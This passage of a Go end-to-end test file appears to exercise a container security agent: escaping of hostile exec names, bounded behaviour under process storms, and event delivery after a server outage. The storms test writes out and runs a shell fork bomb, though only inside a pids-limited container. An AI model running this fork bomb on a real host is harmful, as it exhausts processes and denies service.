		t.Logf("hostile: %v %s", err, short(out))
	}
	e := x.log.wait(t, 30*time.Second, "the hostile exec's event", ruleIn("exec-from-tmp", c.ID))
	if err := e.Validate(); err != nil {
		t.Errorf("hostile event invalid: %v", err)
	}
	for _, s := range append([]string{e.Message, e.Process.Exe}, e.Process.Args...) {
		if !utf8.ValidString(s) || strings.ContainsAny(s, "\n\r\x1b\u202e") {
			t.Errorf("hostile text not escaped: %q", short(s))
		}
	}
	if !strings.Contains(e.Message, `evil\nname`) {
		t.Errorf("message does not show the name escaped: %q", short(e.Message))
	}
	t.Logf("hostile exec shown as: %s", short(e.Message))
	// One event is one line in the file; the log has no unreadable line.
	x.log.refresh()
	if len(x.log.bad) > 0 {
		t.Errorf("unreadable event lines: %q", x.log.bad[0])
	}
	// The event reached the server intact (checked in delivery).
}

// storms: a fork bomb (its container's pids limited) and an exec storm in
// containers; the agent stays bounded and its counters add up.
func (x *e2e) storms(t *testing.T) {
	ctx := context.Background()
	before := x.a.Runtime().RuntimeStats()
	var ms0 runtime.MemStats
	runtime.ReadMemStats(&ms0)

	fb := x.d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}})
	limitPids(t, fb.PID, 400)
	bctx, cancel := context.WithTimeout(ctx, 8*time.Second)
	fb.Exec(bctx, "/bin/sh", "-c", `b(){ b | b & }; b; sleep 10`)
	cancel()
	fb.Kill(ctx, syscall.SIGKILL, true)

	es := x.d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}})
	start := time.Now()
	ectx, cancel2 := context.WithTimeout(ctx, 60*time.Second)
	if out, err := es.Exec(ectx, "/bin/sh", "-c", `i=0; while [ $i -lt 3000 ]; do /bin/true; i=$((i+1)); done`); err != nil {
		t.Errorf("exec storm: %v %s", err, out)
	}
	cancel2()
	storm := time.Since(start)
	x.drain(t)
	after := x.a.Runtime().RuntimeStats()
	var ms1 runtime.MemStats
	runtime.ReadMemStats(&ms1)
	execs := after.Sensor.ReceivedByKind[event.KindExec] - before.Sensor.ReceivedByKind[event.KindExec]
	forks := after.Sensor.ReceivedByKind[event.KindFork] - before.Sensor.ReceivedByKind[event.KindFork]
	t.Logf("storms: %d forks, %d execs received (exec storm %v); sensor lost %d, queue dropped %d, processed %d; proc table %d (evicted %d); heap %d -> %d MiB",
		forks, execs, storm.Round(time.Millisecond), after.Sensor.Lost-before.Sensor.Lost, after.Dropped-before.Dropped,
		after.Processed-before.Processed, after.Worker.Procs, after.Worker.ProcEvict, ms0.HeapInuse>>20, ms1.HeapInuse>>20)
	if execs < 3000 && after.Sensor.Lost == before.Sensor.Lost && after.Dropped == before.Dropped {
		t.Errorf("exec storm: %d execs received and nothing counted lost", execs)
	}
	if after.Received != after.Processed+after.Dropped+uint64(after.Queued) {
		t.Errorf("counters do not add up: received %d != processed %d + dropped %d + queued %d",
			after.Received, after.Processed, after.Dropped, after.Queued)
	}
	if after.Worker.Procs > DefaultMaxProcs || after.Worker.Writers > DefaultMaxWriters {
		t.Errorf("tables over their bounds: %d procs, %d writers", after.Worker.Procs, after.Worker.Writers)
	}
	if ms1.HeapInuse > 512<<20 {
		t.Errorf("agent heap %d MiB after the storms", ms1.HeapInuse>>20)
	}
}

// limitPids caps the container's process count through its pids cgroup
// (v1 hierarchy on these hosts, else v2): the fork bomb stays a test.
func limitPids(t *testing.T, pid, max int) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		f := strings.SplitN(line, ":", 3)
		if len(f) != 3 {
			continue
		}
		var p string
		switch {
		case f[1] == "pids":
			p = filepath.Join("/sys/fs/cgroup/pids", f[2], "pids.max")
		case f[0] == "0" && f[1] == "":
			for _, root := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
				if _, err := os.Stat(filepath.Join(root, f[2], "pids.max")); err == nil {
					p = filepath.Join(root, f[2], "pids.max")
				}
			}
		}
		if p == "" {
			continue
		}
		if err := os.WriteFile(p, []byte(strconv.Itoa(max)), 0o644); err == nil {
			return
		}
	}
	t.Fatal("no pids cgroup to limit the fork bomb: not running it")
}

// delivery: every event the agent emitted is on the server, once, despite
// the outage; nothing was dropped on the way.
func (x *e2e) delivery(t *testing.T) {
	x.drain(t)
	deadline := time.Now().Add(90 * time.Second)
	var stored int
	for {
		s := x.a.Stats()
		if s.Spool != nil && s.Spool.Pending == 0 && s.Queued == 0 {
			stored = len(x.srv.events(t, x.node))
			if uint64(stored) >= s.Emitted-s.Invalid {
				break
			}
		}
		if time.Now().After(deadline) {
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	s := x.a.Stats()
	t.Logf("emitted %d, dropped %d, invalid %d, written %d; spool %+v; delivery %+v; server stored %d",
		s.Emitted, s.EmitDropped, s.Invalid, s.Written, *s.Spool, *s.Delivery, stored)
	if s.EmitDropped != 0 {
		t.Errorf("%d events dropped at the output queue", s.EmitDropped)
	}
	if uint64(stored) != s.Emitted-s.Invalid || s.Spool.Dropped != 0 {
		t.Errorf("server stored %d events, the agent emitted %d (%d invalid, %d dropped at the spool cap)",
			stored, s.Emitted, s.Invalid, s.Spool.Dropped)
	}
	// Distinct IDs on the server, some of them from the outage.
	seen := map[string]bool{}
	during := 0
	for _, r := range x.srv.events(t, x.node) {
		if seen[r.ID] {
			t.Errorf("event %s stored twice", r.ID)
		}
		seen[r.ID] = true
		if r.Time.After(x.outageFrom) && r.Time.Before(x.outageTo) {
			during++
		}
	}
	if during == 0 {
		t.Error("no event from the server outage reached the server")
	}
	t.Logf("%d events happened while the server was down; all were delivered after it came back", during)
	lines := x.log.find(func(*model.Event) bool { return true })
	ids := make([]string, 0, len(lines))
	for _, e := range lines {
		if !seen[e.ID] {
			ids = append(ids, e.ID+" "+e.Rule.ID)
		}
	}
	sort.Strings(ids)
	if len(ids) > 0 {
		t.Errorf("%d events of the events file are not on the server: %v", len(ids), ids[:min(5, len(ids))])
	}
}

func mustRead(t *testing.T, p string) []byte {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// tail returns the last n lines of b.
func tail(b []byte, n int) string {
	lines := strings.Split(strings.TrimRight(string(b), "\n"), "\n")
	if len(lines) > n {
		lines = lines[len(lines)-n:]
	}
	return strings.Join(lines, "\n")
}
